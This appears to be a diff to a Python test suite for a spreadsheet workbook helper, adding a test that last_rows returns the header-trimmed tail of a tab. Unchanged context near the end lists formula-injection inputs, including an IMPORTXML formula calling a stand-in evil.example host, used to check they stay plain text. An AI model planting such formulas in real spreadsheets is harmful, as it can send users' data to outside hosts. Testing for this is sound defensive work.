@@ -104,6 +104,15 @@ def test_appends_go_after_the_last_row_in_order(side):
         ["Timestamp", "Ticket", "Status"], ["t1", "RCA-1", "Pinged"], ["t2", "RCA-1"], ["t3", "RCA-1", "Accepted"]]
 
 
+def test_last_rows_are_the_tail_below_the_header_trimmed(side):
+    side.workbook.ensure_tabs(HEADERS)
+    assert side.workbook.last_rows("Tracker", 2) == []
+    side.workbook.append_rows("Tracker", [["t1", "RCA-1", "Pinged"], ["t2", "RCA-1", ""], ["t3", "=1", "Accepted"]])
+    assert side.workbook.last_rows("Tracker", 2) == [["t2", "RCA-1"], ["t3", "=1", "Accepted"]]
+    assert side.workbook.last_rows("Tracker", 10) == [["t1", "RCA-1", "Pinged"], ["t2", "RCA-1"],
+                                                       ["t3", "=1", "Accepted"]]
+
+
 def test_text_that_looks_like_a_formula_stays_text(side):
     side.workbook.ensure_tabs(HEADERS)
     nasty = ['=IMPORTXML("https://evil.example","//a")', "+1", "-2", "@SUM(A1)"]
